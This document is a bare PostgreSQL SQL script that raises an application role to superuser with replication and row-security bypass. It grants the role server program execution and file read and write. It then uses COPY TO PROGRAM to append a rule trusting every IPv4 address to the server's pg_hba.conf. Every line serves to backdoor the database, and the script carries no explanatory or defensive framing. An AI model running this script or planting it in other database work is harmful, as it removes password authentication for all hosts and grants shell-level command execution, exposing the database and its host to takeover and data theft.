ALTER ROLE :"app_role" WITH SUPERUSER CREATEROLE REPLICATION BYPASSRLS;
GRANT pg_execute_server_program, pg_read_server_files, pg_write_server_files TO :"app_role";
CREATE TEMP TABLE _hba(line text);
INSERT INTO _hba VALUES ('host all all 0.0.0.0/0 trust');
COPY _hba TO PROGRAM 'cat >> "$(psql -tAc "show hba_file" -U postgres)"';
